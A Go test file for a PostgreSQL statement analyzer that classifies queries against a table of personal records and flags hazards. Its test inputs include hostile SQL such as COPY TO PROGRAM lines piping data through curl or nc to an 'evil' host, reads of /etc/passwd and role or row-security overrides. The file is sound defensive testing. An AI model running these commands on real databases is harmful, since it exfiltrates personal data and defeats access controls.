package analysis

import (
	"reflect"
	"slices"
	"testing"

	pg_query "github.com/pganalyze/pg_query_go/v6"
	"google.golang.org/protobuf/encoding/protowire"
	"google.golang.org/protobuf/reflect/protoreflect"
)

// want is what one statement must yield. Relations and Functions are
// compared in order, hazard kinds as a set, and Columns ("qualifier.name@clause")
// only when given.
type want struct {
	class    Class
	rels     []string
	fns      []string
	cols     []string
	hazards  []string
	wholeRow bool
	into     bool
	setting  *Setting
	prepared *Prepare
	cursor   string
	unjudged bool
}

var corpus = []struct {
	sql string
	w   want
}{
	// Reads.
	{"SELECT full_name, nationality FROM persons WHERE person_id = 101",
		want{class: ClassRead, rels: []string{"persons"},
			cols: []string{"full_name@select", "nationality@select", "person_id@where"}}},
	{"SELECT 1", want{class: ClassRead, cols: []string{}}},
	{"VALUES (1, 'a'), (2, 'b')", want{class: ClassRead}},
	{"TABLE persons", want{class: ClassRead, rels: []string{"persons"}, cols: []string{"*@select"}}},
	{"SELECT * FROM public.persons", want{class: ClassRead, rels: []string{"public.persons"}, cols: []string{"*@select"}}},
	{`SELECT "Full Name" FROM "Persons" p`, want{class: ClassRead, rels: []string{"Persons"}, cols: []string{"Full Name@select"}}},
	{`SELECT * FROM PERSONS`, want{class: ClassRead, rels: []string{"persons"}}},
	{"SELECT p.full_name FROM persons p JOIN addresses a ON a.address_id = p.address_id WHERE a.city = 'x' ORDER BY p.date_of_birth",
		want{class: ClassRead, rels: []string{"persons", "addresses"},
			cols: []string{"p.full_name@select", "a.address_id@join", "p.address_id@join", "a.city@where", "p.date_of_birth@order_by"}}},
	{"SELECT nationality, count(*) FROM persons GROUP BY nationality HAVING count(*) > 5",
		want{class: ClassRead, rels: []string{"persons"}, fns: []string{"count"},
			cols: []string{"nationality@select", "nationality@group_by"}}},
	{"SELECT person_id FROM persons UNION SELECT person_id FROM case_files EXCEPT SELECT person_id FROM social_posts",
		want{class: ClassRead, rels: []string{"persons", "case_files", "social_posts"}}},
	{"SELECT * FROM persons WHERE person_id IN (SELECT person_id FROM location_pings WHERE lat > 40)",
		want{class: ClassRead, rels: []string{"persons", "location_pings"},
			cols: []string{"*@select", "person_id@where", "person_id@select", "lat@where"}}},
	{"SELECT * FROM persons p, LATERAL (SELECT * FROM location_pings l WHERE l.person_id = p.person_id LIMIT 1) x",
		want{class: ClassRead, rels: []string{"persons", "location_pings"}}},
	{"SELECT * FROM persons p WHERE EXISTS (SELECT 1 FROM case_files c WHERE c.person_id = p.person_id)",
		want{class: ClassRead, rels: []string{"persons", "case_files"}}},
	{"SELECT (SELECT max(observed_at) FROM location_pings) AS last",
		want{class: ClassRead, rels: []string{"location_pings"}, fns: []string{"max"}}},
	{"SELECT person_id, rank() OVER (PARTITION BY nationality ORDER BY date_of_birth) FROM persons",
		want{class: ClassRead, rels: []string{"persons"}, fns: []string{"rank"},
			cols: []string{"person_id@select", "nationality@window", "date_of_birth@window"}}},
	{"SELECT count(*) FILTER (WHERE religion = 'x') FROM persons",
		want{class: ClassRead, rels: []string{"persons"}, fns: []string{"count"}, cols: []string{"religion@where"}}},
	{"SELECT string_agg(full_name, ',' ORDER BY ethnicity) FROM persons",
		want{class: ClassRead, rels: []string{"persons"}, fns: []string{"string_agg"},
			cols: []string{"full_name@select", "ethnicity@order_by"}}},
	{"SELECT DISTINCT ON (religion) full_name FROM persons",
		want{class: ClassRead, rels: []string{"persons"}, cols: []string{"religion@group_by", "full_name@select"}}},
	{"SELECT * FROM persons JOIN addresses USING (address_id)",
		want{class: ClassRead, rels: []string{"persons", "addresses"}, cols: []string{"*@select", "address_id@join"}}},
	{"SELECT * FROM persons NATURAL JOIN utility_accounts",
		want{class: ClassRead, rels: []string{"persons", "utility_accounts"}, cols: []string{"*@select", "*@join"}}},
	{"SELECT r FROM persons AS p(i, n, d, nat, im, a, r)",
		want{class: ClassRead, rels: []string{"persons"}, cols: []string{"r@select", "p.*@from"}}},
	{"SELECT CASE WHEN religion = 'x' THEN 1 ELSE 0 END FROM persons",
		want{class: ClassRead, rels: []string{"persons"}, cols: []string{"religion@select"}}},
	{"SELECT * FROM persons WHERE person_id = $1", want{class: ClassRead, rels: []string{"persons"}}},
	{"SELECT * FROM pg_stats", want{class: ClassRead, rels: []string{"pg_stats"}, hazards: []string{HazardCatalogStatistics}}},
	{"SELECT most_common_vals FROM pg_catalog.pg_stats WHERE attname = 'religion'",
		want{class: ClassRead, rels: []string{"pg_catalog.pg_stats"}, hazards: []string{HazardCatalogStatistics}}},
	{"SELECT query FROM pg_stat_activity", want{class: ClassRead, rels: []string{"pg_stat_activity"}, hazards: []string{HazardCatalogStatistics}}},
	{"SELECT * FROM persons TABLESAMPLE bernoulli (1)",
		want{class: ClassRead, rels: []string{"persons"}, fns: []string{"bernoulli"}}},
	{"SELECT * FROM persons FOR UPDATE", want{class: ClassRead, rels: []string{"persons"}, hazards: []string{HazardLock}}},
	{"SELECT * FROM persons p FOR SHARE OF p", want{class: ClassRead, rels: []string{"persons"}, hazards: []string{HazardLock}}},
	{"SELECT * FROM generate_series(1, 10) g", want{class: ClassRead, fns: []string{"generate_series"}}},
	{"SELECT * FROM ROWS FROM (generate_series(1, 3), pg_ls_dir('.')) AS t(a, b)",
		want{class: ClassRead, fns: []string{"generate_series", "pg_ls_dir"}, hazards: []string{HazardFileFunction}}},
	{"SELECT x FROM XMLTABLE('/a' PASSING (SELECT body::xml FROM social_posts LIMIT 1) COLUMNS x text)",
		want{class: ClassRead, rels: []string{"social_posts"}}},

	// WITH queries: names resolved, shadowing, recursion.
	{"WITH p AS (SELECT * FROM persons) SELECT * FROM p",
		want{class: ClassRead, rels: []string{"persons"}}},
	{"WITH persons AS (SELECT 1 AS x) SELECT * FROM persons", want{class: ClassRead}},
	{"WITH persons AS (SELECT * FROM persons WHERE person_id = 1) SELECT * FROM persons",
		want{class: ClassRead, rels: []string{"persons"}}},
	{"WITH a AS (SELECT * FROM addresses), b AS (SELECT * FROM a JOIN persons USING (address_id)) SELECT * FROM b",
		want{class: ClassRead, rels: []string{"addresses", "persons"}}},
	{"WITH b AS (SELECT * FROM a), a AS (SELECT 1) SELECT * FROM b",
		want{class: ClassRead, rels: []string{"a"}}}, // a later sibling is not visible without RECURSIVE
	{"WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 5) SELECT * FROM t",
		want{class: ClassRead}},
	{"SELECT * FROM (WITH x AS (SELECT 1) SELECT * FROM x) s, x",
		want{class: ClassRead, rels: []string{"x"}}}, // the inner WITH does not reach the outer FROM
	{"WITH persons AS (SELECT 1) SELECT * FROM public.persons",
		want{class: ClassRead, rels: []string{"public.persons"}}},
	{"WITH x AS (SELECT 1) SELECT * FROM persons WHERE person_id IN (SELECT * FROM x)",
		want{class: ClassRead, rels: []string{"persons"}}},
	{"WITH x AS (SELECT 1) DELETE FROM x",
		want{class: ClassWrite, rels: []string{"x"}, hazards: []string{HazardWrite}}}, // a target is never a WITH query
	{"WITH d AS (DELETE FROM persons RETURNING *) SELECT * FROM d",
		want{class: ClassWrite, rels: []string{"persons"}, hazards: []string{HazardWrite}}},
	{"WITH u AS (UPDATE case_files SET status = 'closed' RETURNING person_id) SELECT count(*) FROM u",
		want{class: ClassWrite, rels: []string{"case_files"}, fns: []string{"count"}, hazards: []string{HazardWrite}}},

	// Hazardous functions anywhere.
	{"SELECT pg_read_file('/etc/hostname')", want{class: ClassRead, fns: []string{"pg_read_file"}, hazards: []string{HazardFileFunction}}},
	{"SELECT pg_catalog.pg_read_file('/etc/hostname')",
		want{class: ClassRead, fns: []string{"pg_catalog.pg_read_file"}, hazards: []string{HazardFileFunction}}},
	{`SELECT "PG_READ_FILE"('/etc/hostname')`, want{class: ClassRead, fns: []string{"PG_READ_FILE"}, hazards: []string{HazardFileFunction}}},
	{"SELECT (SELECT pg_read_file('/etc/passwd'))", want{class: ClassRead, fns: []string{"pg_read_file"}, hazards: []string{HazardFileFunction}}},
	{"WITH x AS (SELECT pg_read_binary_file('/etc/passwd')) SELECT * FROM x",
		want{class: ClassRead, fns: []string{"pg_read_binary_file"}, hazards: []string{HazardFileFunction}}},
	{"SELECT * FROM persons WHERE full_name = pg_read_file('/etc/passwd')",
		want{class: ClassRead, rels: []string{"persons"}, fns: []string{"pg_read_file"}, hazards: []string{HazardFileFunction}}},
	{"SELECT * FROM persons ORDER BY pg_stat_file('/etc/passwd')",
		want{class: ClassRead, rels: []string{"persons"}, fns: []string{"pg_stat_file"}, hazards: []string{HazardFileFunction}}},
	{"SELECT * FROM persons p, LATERAL pg_ls_dir('.') f",
		want{class: ClassRead, rels: []string{"persons"}, fns: []string{"pg_ls_dir"}, hazards: []string{HazardFileFunction}}},
	{"SELECT * FROM pg_ls_dir('.')", want{class: ClassRead, fns: []string{"pg_ls_dir"}, hazards: []string{HazardFileFunction}}},
	{"SELECT * FROM pg_ls_waldir()", want{class: ClassRead, fns: []string{"pg_ls_waldir"}, hazards: []string{HazardFileFunction}}},
	{"SELECT CASE WHEN true THEN pg_read_file('x')::int ELSE 0 END",
		want{class: ClassRead, fns: []string{"pg_read_file"}, hazards: []string{HazardFileFunction}}},
	{"VALUES (pg_read_file('x'))", want{class: ClassRead, fns: []string{"pg_read_file"}, hazards: []string{HazardFileFunction}}},
	{"SELECT lo_import('/etc/passwd')", want{class: ClassRead, fns: []string{"lo_import"}, hazards: []string{HazardFileFunction, HazardLargeObject}}},
	{"SELECT lo_get(16400)", want{class: ClassRead, fns: []string{"lo_get"}, hazards: []string{HazardLargeObject}}},
	{"SELECT * FROM dblink('host=127.0.0.1', 'SELECT * FROM persons') AS t(id int)",
		want{class: ClassRead, fns: []string{"dblink"}, hazards: []string{HazardNetwork}}},
	{"SELECT dblink_exec('host=x', 'DELETE FROM persons')", want{class: ClassRead, fns: []string{"dblink_exec"}, hazards: []string{HazardNetwork}}},
	{"SELECT query_to_xml('SELECT * FROM persons', true, false, '')",
		want{class: ClassRead, fns: []string{"query_to_xml"}, hazards: []string{HazardSQLTextFunction}}},
	{"SELECT table_to_xml('persons', true, false, '')", want{class: ClassRead, fns: []string{"table_to_xml"}, hazards: []string{HazardSQLTextFunction}}},
	{"SELECT cursor_to_xml('c', 10, true, false, '')", want{class: ClassRead, fns: []string{"cursor_to_xml"}, hazards: []string{HazardSQLTextFunction}}},
	{"SELECT * FROM ts_stat('SELECT to_tsvector(body) FROM social_posts')",
		want{class: ClassRead, fns: []string{"ts_stat"}, hazards: []string{HazardSQLTextFunction}}},
	{"SELECT ts_rewrite('a'::tsquery, 'SELECT t, s FROM aliases')",
		want{class: ClassRead, fns: []string{"ts_rewrite"}, hazards: []string{HazardSQLTextFunction}}},
	{"SELECT ts_rewrite('a'::tsquery, 'a'::tsquery, 'b'::tsquery)", want{class: ClassRead, fns: []string{"ts_rewrite"}}},
	{"SELECT pg_terminate_backend(1234)", want{class: ClassRead, fns: []string{"pg_terminate_backend"}, hazards: []string{HazardAdminFunction}}},
	{"SELECT pg_reload_conf()", want{class: ClassRead, fns: []string{"pg_reload_conf"}, hazards: []string{HazardAdminFunction}}},
	{"SELECT pg_notify('c', 'hello')", want{class: ClassRead, fns: []string{"pg_notify"}, hazards: []string{HazardListenNotify}}},
	{"SELECT nextval('s')", want{class: ClassRead, fns: []string{"nextval"}, hazards: []string{HazardWrite}}},
	{"SELECT set_config('custodes.authority', 'W-DEMO-1', false)",
		want{class: ClassRead, fns: []string{"set_config"}, hazards: []string{HazardAdminFunction, HazardCustodesSetting}}},
	{"SELECT set_config('CUSTODES.AUTHORITY', 'W-DEMO-1', false)",
		want{class: ClassRead, fns: []string{"set_config"}, hazards: []string{HazardAdminFunction, HazardCustodesSetting}}},
	{"SELECT set_config('row_security', 'off', false)",
		want{class: ClassRead, fns: []string{"set_config"}, hazards: []string{HazardAdminFunction, HazardSecuritySetting}}},
	{"SELECT set_config('role', 'postgres', true)",
		want{class: ClassRead, fns: []string{"set_config"}, hazards: []string{HazardAdminFunction, HazardSetRole}}},
	{"SELECT set_config('application_name', 'x', false)",
		want{class: ClassRead, fns: []string{"set_config"}, hazards: []string{HazardAdminFunction}}},
	{"SELECT set_config(name, 'x', false) FROM pg_settings",
		want{class: ClassRead, rels: []string{"pg_settings"}, fns: []string{"set_config"},
			hazards: []string{HazardAdminFunction, HazardCustodesSetting, HazardSecuritySetting, HazardSetRole, HazardSessionAuthorization}}},
	{"SELECT current_setting('custodes.authority')", want{class: ClassRead, fns: []string{"current_setting"}}},

	// Whole rows.
	{"SELECT row_to_json(p) FROM persons p",
		want{class: ClassRead, rels: []string{"persons"}, fns: []string{"row_to_json"}, wholeRow: true}},
	{"SELECT persons FROM persons", want{class: ClassRead, rels: []string{"persons"}, wholeRow: true}},
	{"SELECT p.to_json FROM persons p",
		want{class: ClassRead, rels: []string{"persons"}, fns: []string{"to_json"}, wholeRow: true, cols: []string{"p.to_json@select"}}},
	{"SELECT religion(p) FROM persons p", want{class: ClassRead, rels: []string{"persons"}, fns: []string{"religion"}, wholeRow: true}},
	{"SELECT ROW(p.*) FROM persons p", want{class: ClassRead, rels: []string{"persons"}, wholeRow: true}},
	{"SELECT (p).religion FROM persons p", want{class: ClassRead, rels: []string{"persons"}, wholeRow: true}},
	{"SELECT p.* FROM persons p", want{class: ClassRead, rels: []string{"persons"}, cols: []string{"p.*@select"}}},
	{"SELECT c FROM (SELECT * FROM persons) c", want{class: ClassRead, rels: []string{"persons"}, wholeRow: true}},
	{"WITH c AS (SELECT * FROM persons) SELECT json_agg(c) FROM c",
		want{class: ClassRead, rels: []string{"persons"}, fns: []string{"json_agg"}, wholeRow: true}},

	// Writes and their hidden forms.
	{"INSERT INTO case_files (case_id, person_id) VALUES ('c1', 1)",
		want{class: ClassWrite, rels: []string{"case_files"}, hazards: []string{HazardWrite},
			cols: []string{"case_id@assign", "person_id@assign"}}},
	{"INSERT INTO case_files SELECT * FROM case_files ON CONFLICT (case_id) DO UPDATE SET status = excluded.status",
		want{class: ClassWrite, rels: []string{"case_files"}, hazards: []string{HazardWrite}}},
	{"UPDATE persons SET phone = a.postal_code FROM addresses a WHERE a.address_id = persons.address_id RETURNING persons.*",
		want{class: ClassWrite, rels: []string{"persons", "addresses"}, hazards: []string{HazardWrite}}},
	{"DELETE FROM persons USING case_files c WHERE c.person_id = persons.person_id",
		want{class: ClassWrite, rels: []string{"persons", "case_files"}, hazards: []string{HazardWrite}}},
	{"MERGE INTO persons p USING addresses a ON p.address_id = a.address_id WHEN MATCHED THEN DELETE",
		want{class: ClassWrite, rels: []string{"persons", "addresses"}, hazards: []string{HazardWrite}}},
	{"TRUNCATE persons", want{class: ClassWrite, rels: []string{"persons"}, hazards: []string{HazardWrite}}},
	{"REFRESH MATERIALIZED VIEW m", want{class: ClassWrite, rels: []string{"m"}, hazards: []string{HazardWrite}}},
	{"CALL do_things(1)", want{class: ClassWrite, fns: []string{"do_things"}, hazards: []string{HazardWrite}}},
	{"DO $$ BEGIN PERFORM pg_sleep(1); END $$", want{class: ClassWrite, hazards: []string{HazardDoBlock, HazardWrite}}},
	{"SELECT * INTO stash FROM persons",
		want{class: ClassDDL, rels: []string{"stash", "persons"}, into: true, hazards: []string{HazardSelectInto, HazardDDL}}},
	{"CREATE TABLE stash AS SELECT * FROM persons",
		want{class: ClassDDL, rels: []string{"persons", "stash"}, into: true, hazards: []string{HazardSelectInto, HazardDDL}}},
	{"CREATE MATERIALIZED VIEW mv AS SELECT * FROM location_pings",
		want{class: ClassDDL, rels: []string{"location_pings", "mv"}, into: true, hazards: []string{HazardSelectInto, HazardDDL}}},
	{"CREATE VIEW v AS SELECT religion FROM persons",
		want{class: ClassDDL, rels: []string{"v", "persons"}, hazards: []string{HazardDDL}}},
	{"CREATE TABLE t (id int DEFAULT pg_backend_pid())",
		want{class: ClassDDL, rels: []string{"t"}, fns: []string{"pg_backend_pid"}, hazards: []string{HazardDDL}}},
	{"DROP TABLE persons", want{class: ClassDDL, hazards: []string{HazardDDL}}},
	{"GRANT SELECT ON persons TO alice", want{class: ClassDDL, rels: []string{"persons"}, hazards: []string{HazardDDL}}},
	{"ALTER SYSTEM SET row_security = off", want{class: ClassDDL, hazards: []string{HazardDDL}}},
	{"CREATE EXTENSION dblink", want{class: ClassDDL, hazards: []string{HazardDDL}}},
	{"LOAD 'plugin'", want{class: ClassDDL, hazards: []string{HazardDDL}}},

	// COPY.
	{"COPY persons TO STDOUT", want{class: ClassCopyOut, rels: []string{"persons"}, hazards: []string{HazardCopyTo}, cols: []string{"persons.*@select"}}},
	{"COPY persons (full_name, religion) TO STDOUT WITH (FORMAT csv)",
		want{class: ClassCopyOut, rels: []string{"persons"}, hazards: []string{HazardCopyTo}, cols: []string{"full_name@select", "religion@select"}}},
	{"COPY (SELECT * FROM persons) TO STDOUT", want{class: ClassCopyOut, rels: []string{"persons"}, hazards: []string{HazardCopyTo}}},
	{"COPY (DELETE FROM persons RETURNING *) TO STDOUT",
		want{class: ClassCopyOut, rels: []string{"persons"}, hazards: []string{HazardCopyTo, HazardWrite}}},
	{"COPY persons TO PROGRAM 'curl -d @- http://evil'",
		want{class: ClassCopyOut, rels: []string{"persons"}, hazards: []string{HazardCopyTo, HazardCopyProgram}}},
	{"COPY persons TO '/tmp/persons.csv'", want{class: ClassCopyOut, rels: []string{"persons"}, hazards: []string{HazardCopyTo, HazardCopyFile}}},
	{"COPY persons FROM STDIN", want{class: ClassCopyIn, rels: []string{"persons"}, hazards: []string{HazardCopyFrom, HazardWrite}}},
	{"COPY persons FROM PROGRAM 'cat /etc/passwd'",
		want{class: ClassCopyIn, rels: []string{"persons"}, hazards: []string{HazardCopyFrom, HazardCopyProgram, HazardWrite}}},

	// Settings.
	{"SET custodes.authority = 'W-DEMO-1'", want{class: ClassSet, setting: &Setting{Name: "custodes.authority", Value: "W-DEMO-1"}}},
	{"SET LOCAL custodes.authority TO 'W-DEMO-1'", want{class: ClassSet, setting: &Setting{Name: "custodes.authority", Value: "W-DEMO-1", Local: true}}},
	{"RESET custodes.authority", want{class: ClassSet, setting: &Setting{Name: "custodes.authority", Reset: true}}},
	{`SET "Custodes".Authority = 'x'`, want{class: ClassSet, setting: &Setting{Name: "custodes.authority", Value: "x"}}},
	{"SET custodes.scope = '1,2,3'", want{class: ClassSet, setting: &Setting{Name: "custodes.scope", Value: "1,2,3"}, hazards: []string{HazardCustodesSetting}}},
	{"SET ROLE postgres", want{class: ClassSet, setting: &Setting{Name: "role", Value: "postgres"}, hazards: []string{HazardSetRole}}},
	{"RESET ROLE", want{class: ClassSet, setting: &Setting{Name: "role", Reset: true}, hazards: []string{HazardSetRole}}},
	{"SET SESSION AUTHORIZATION postgres",
		want{class: ClassSet, setting: &Setting{Name: "session_authorization", Value: "postgres"}, hazards: []string{HazardSessionAuthorization}}},
	{"SET row_security = off", want{class: ClassSet, setting: &Setting{Name: "row_security", Value: "off"}, hazards: []string{HazardSecuritySetting}}},
	{"SET search_path = evil, public", want{class: ClassSet, setting: &Setting{Name: "search_path", Value: "evil, public"}, hazards: []string{HazardSecuritySetting}}},
	{"SET session_replication_role = replica",
		want{class: ClassSet, setting: &Setting{Name: "session_replication_role", Value: "replica"}, hazards: []string{HazardSecuritySetting}}},
	{"SET log_statement = 'none'", want{class: ClassSet, setting: &Setting{Name: "log_statement", Value: "none"}, hazards: []string{HazardSecuritySetting}}},
	{"SET NAMES 'SJIS'", want{class: ClassSet, setting: &Setting{Name: "client_encoding", Value: "SJIS"}, hazards: []string{HazardSecuritySetting}}},
	{"SET client_encoding = 'UTF8'", want{class: ClassSet, setting: &Setting{Name: "client_encoding", Value: "UTF8"}}},
	{"SET standard_conforming_strings = off",
		want{class: ClassSet, setting: &Setting{Name: "standard_conforming_strings", Value: "off"}, hazards: []string{HazardSecuritySetting}}},
	{"SET statement_timeout = 5000", want{class: ClassSet, setting: &Setting{Name: "statement_timeout", Value: "5000"}}},
	{"SET TIME ZONE 'UTC'", want{class: ClassSet, setting: &Setting{Name: "timezone", Value: "UTC"}}},
	{"RESET ALL", want{class: ClassSet, setting: &Setting{Reset: true, All: true}, hazards: []string{HazardSecuritySetting, HazardCustodesSetting}}},
	{"SET TRANSACTION READ WRITE",
		want{class: ClassSet, setting: &Setting{Name: "transaction", Value: "transaction_read_only=0"}, hazards: []string{HazardSecuritySetting}}},
	{"SHOW custodes.authority", want{class: ClassShow, setting: &Setting{Name: "custodes.authority"}}},
	{"SHOW ALL", want{class: ClassShow, setting: &Setting{All: true}}},

	// Transactions.
	{"BEGIN", want{class: ClassTransaction}},
	{"START TRANSACTION ISOLATION LEVEL SERIALIZABLE READ ONLY", want{class: ClassTransaction}},
	{"BEGIN READ WRITE", want{class: ClassTransaction, hazards: []string{HazardSecuritySetting}}},
	{"SAVEPOINT s1", want{class: ClassTransaction}},
	{"ROLLBACK TO SAVEPOINT s1", want{class: ClassTransaction}},
	{"COMMIT", want{class: ClassTransaction}},
	{"SET CONSTRAINTS ALL DEFERRED", want{class: ClassTransaction}},

	// Utilities.
	{"PREPARE q(bigint) AS SELECT religion FROM persons WHERE person_id = $1",
		want{class: ClassUtility, rels: []string{"persons"}, prepared: &Prepare{Name: "q", Class: ClassRead},
			cols: []string{"religion@select", "person_id@where"}}},
	{"PREPARE d AS DELETE FROM persons",
		want{class: ClassUtility, rels: []string{"persons"}, prepared: &Prepare{Name: "d", Class: ClassWrite}, hazards: []string{HazardWrite}}},
	{"EXECUTE q(101)", want{class: ClassUtility, prepared: &Prepare{Name: "q", Execute: true}}},
	{"EXECUTE q(pg_read_file('x'))",
		want{class: ClassUtility, fns: []string{"pg_read_file"}, prepared: &Prepare{Name: "q", Execute: true}, hazards: []string{HazardFileFunction}}},
	{"DEALLOCATE q", want{class: ClassUtility}},
	{"EXPLAIN SELECT * FROM persons", want{class: ClassUtility, rels: []string{"persons"}, hazards: []string{HazardExplain}}},
	{"EXPLAIN ANALYZE SELECT * FROM persons WHERE religion = 'x'",
		want{class: ClassRead, rels: []string{"persons"}, hazards: []string{HazardExplain}}},
	{"EXPLAIN ANALYZE DELETE FROM persons", want{class: ClassWrite, rels: []string{"persons"}, hazards: []string{HazardExplain, HazardWrite}}},
	{"EXPLAIN (ANALYZE, BUFFERS) UPDATE persons SET phone = NULL",
		want{class: ClassWrite, rels: []string{"persons"}, hazards: []string{HazardExplain, HazardWrite}}},
	{"EXPLAIN (ANALYZE off) DELETE FROM persons",
		want{class: ClassUtility, rels: []string{"persons"}, hazards: []string{HazardExplain, HazardWrite}}},
	{"EXPLAIN ANALYZE EXECUTE q", want{class: ClassUtility, prepared: &Prepare{Name: "q", Execute: true}, hazards: []string{HazardExplain}}},
	{"CREATE TABLE t AS EXECUTE q",
		want{class: ClassDDL, rels: []string{"t"}, into: true, prepared: &Prepare{Name: "q", Execute: true}, hazards: []string{HazardSelectInto, HazardDDL}}},
	{"DECLARE c CURSOR WITH HOLD FOR SELECT * FROM persons JOIN case_files USING (person_id)",
		want{class: ClassRead, rels: []string{"persons", "case_files"}, cursor: "c"}},
	{"FETCH 10 FROM c", want{class: ClassUtility, cursor: "c"}},
	{"MOVE LAST IN c", want{class: ClassUtility, cursor: "c"}},
	{"CLOSE c", want{class: ClassUtility, cursor: "c"}},
	{"CLOSE ALL", want{class: ClassUtility}},
	{"DISCARD ALL", want{class: ClassUtility, hazards: []string{HazardSessionAuthorization, HazardSecuritySetting, HazardCustodesSetting}}},
	{"DISCARD PLANS", want{class: ClassUtility}},
	{"LISTEN alerts", want{class: ClassUtility, hazards: []string{HazardListenNotify}}},
	{"NOTIFY alerts, 'x'", want{class: ClassUtility, hazards: []string{HazardListenNotify}}},
	{"UNLISTEN *", want{class: ClassUtility}},
	{"LOCK TABLE persons IN ACCESS EXCLUSIVE MODE", want{class: ClassUtility, rels: []string{"persons"}, hazards: []string{HazardLock}}},
	{"VACUUM persons", want{class: ClassUtility, rels: []string{"persons"}, hazards: []string{HazardMaintenance}}},
	{"ANALYZE persons", want{class: ClassUtility, rels: []string{"persons"}, hazards: []string{HazardMaintenance}}},
	{"CHECKPOINT", want{class: ClassUtility, hazards: []string{HazardMaintenance}}},

	// Empty.
	{"", want{class: ClassEmpty}},
	{"  ;; -- nothing here\n", want{class: ClassEmpty}},
}

func TestAnalyzeCorpus(t *testing.T) {
	for _, tc := range corpus {
		stmts, err := Analyze(tc.sql)
		if err != nil {
			t.Errorf("Analyze(%q): %v", tc.sql, err)
			continue
		}
		if len(stmts) != 1 {
			t.Errorf("Analyze(%q): %d statements, want 1", tc.sql, len(stmts))
			continue
		}
		checkStatement(t, tc.sql, stmts[0], tc.w)
	}
}

func checkStatement(t *testing.T, sql string, st *Statement, w want) {
	t.Helper()
	if st.Class != w.class {
		t.Errorf("%q: Class = %q, want %q (unjudged: %q)", sql, st.Class, w.class, st.Unjudged)
	}
	var rels []string
	for _, r := range st.Relations {
		rels = append(rels, r.String())
	}
	if !slices.Equal(rels, w.rels) {
		t.Errorf("%q: Relations = %q, want %q", sql, rels, w.rels)
	}
	if !slices.Equal(st.Functions, w.fns) {
		t.Errorf("%q: Functions = %q, want %q", sql, st.Functions, w.fns)
	}
	if w.cols != nil {
		cols := []string{}
		for _, c := range st.Columns {
			s := c.Name + "@" + string(c.Clause)
			if c.Qualifier != "" {
				s = c.Qualifier + "." + s
			}
			cols = append(cols, s)
		}
		if !slices.Equal(cols, w.cols) {
			t.Errorf("%q: Columns = %q, want %q", sql, cols, w.cols)
		}
	}
	if got := hazardKinds(st); !slices.Equal(got, sortedSet(w.hazards)) {
		t.Errorf("%q: hazard kinds = %q, want %q (%v)", sql, got, sortedSet(w.hazards), st.Hazards)
	}
	if st.WholeRow != w.wholeRow {
		t.Errorf("%q: WholeRow = %v, want %v", sql, st.WholeRow, w.wholeRow)
	}
	if st.Into != w.into {
		t.Errorf("%q: Into = %v, want %v", sql, st.Into, w.into)
	}
	if !reflect.DeepEqual(st.Setting, w.setting) {
		t.Errorf("%q: Setting = %+v, want %+v", sql, st.Setting, w.setting)
	}
	if !reflect.DeepEqual(st.Prepared, w.prepared) {
		t.Errorf("%q: Prepared = %+v, want %+v", sql, st.Prepared, w.prepared)
	}
	if st.Cursor != w.cursor {
		t.Errorf("%q: Cursor = %q, want %q", sql, st.Cursor, w.cursor)
	}
	if (len(st.Unjudged) > 0) != w.unjudged {
		t.Errorf("%q: Unjudged = %q, want unjudged=%v", sql, st.Unjudged, w.unjudged)
	}
}

func hazardKinds(st *Statement) []string {
	var kinds []string
	for _, h := range st.Hazards {
		kinds = append(kinds, h.Kind)
	}
	return sortedSet(kinds)
}

func sortedSet(s []string) []string {
	if len(s) == 0 {
		return nil
	}
	s = slices.Clone(s)
	slices.Sort(s)
	return slices.Compact(s)
}

func TestCorpusSize(t *testing.T) {
	if len(corpus) < 80 {
		t.Fatalf("corpus has %d statements, want at least 80", len(corpus))
	}
}

func TestMultiStatementText(t *testing.T) {
	sql := "SET custodes.authority = 'W-DEMO-1';\n  SELECT * FROM persons WHERE person_id = 101 ;" +
		"/* c */ SELECT pg_read_file('x'); ; COPY persons TO STDOUT"
	stmts, err := Analyze(sql)
	if err != nil {
		t.Fatal(err)
	}
	wantText := []string{
		"SET custodes.authority = 'W-DEMO-1'",
		"SELECT * FROM persons WHERE person_id = 101",
		"/* c */ SELECT pg_read_file('x')",
		"COPY persons TO STDOUT",
	}
	wantClass := []Class{ClassSet, ClassRead, ClassRead, ClassCopyOut}
	if len(stmts) != len(wantText) {
		t.Fatalf("got %d statements, want %d", len(stmts), len(wantText))
	}
	for i, st := range stmts {
		if st.Text != wantText[i] || st.Class != wantClass[i] {
			t.Errorf("statement %d = %q (%s), want %q (%s)", i, st.Text, st.Class, wantText[i], wantClass[i])
		}
	}
	if len(stmts[2].Hazards) == 0 || len(stmts[1].Hazards) != 0 {
		t.Errorf("hazards not kept per statement: %v / %v", stmts[1].Hazards, stmts[2].Hazards)
	}
}

func TestMultiByteText(t *testing.T) {
	// Offsets are bytes: a multi-byte name before the split must not shift it.
	stmts, err := Analyze("SELECT 'Zoë' AS ñame; SELECT 2")
	if err != nil {
		t.Fatal(err)
	}
	if len(stmts) != 2 || stmts[0].Text != "SELECT 'Zoë' AS ñame" || stmts[1].Text != "SELECT 2" {
		t.Errorf("texts = %q", texts(stmts))
	}
}

func texts(stmts []*Statement) []string {
	var s []string
	for _, st := range stmts {
		s = append(s, st.Text)
	}
	return s
}

func TestParseErrors(t *testing.T) {
	for _, sql := range []string{
		"SELEC 1",
		"SELECT * FROM",
		"SELECT 1; DELETE FROM", // one bad statement fails the whole string
		"SELECT 'unterminated",
		"SELECT 1\x00; DROP TABLE persons", // the C parser would stop at the NUL
	} {
		if stmts, err := Analyze(sql); err == nil {
			t.Errorf("Analyze(%q) = %d statements, want an error", sql, len(stmts))
		}
	}
}

func TestHazardDetails(t *testing.T) {
	for _, tc := range []struct {
		sql  string
		want Hazard
	}{
		{"COPY persons TO PROGRAM 'nc evil 1'", Hazard{HazardCopyProgram, "nc evil 1"}},
		{"SELECT pg_catalog.pg_ls_dir('.')", Hazard{HazardFileFunction, "pg_catalog.pg_ls_dir"}},
		{"WITH d AS (DELETE FROM persons) SELECT 1", Hazard{HazardWrite, "DELETE persons"}},
		{"SELECT * INTO public.stash FROM persons", Hazard{HazardSelectInto, "public.stash"}},
		{"SELECT * FROM persons FOR NO KEY UPDATE", Hazard{HazardLock, "FOR NO KEY UPDATE"}},
	} {
		stmts, err := Analyze(tc.sql)
		if err != nil {
			t.Fatal(err)
		}
		if !slices.Contains(stmts[0].Hazards, tc.want) {
			t.Errorf("%q: hazards %v lack %v", tc.sql, stmts[0].Hazards, tc.want)
		}
	}
}

// TestEveryHazardKind keeps the corpus honest: each documented kind is
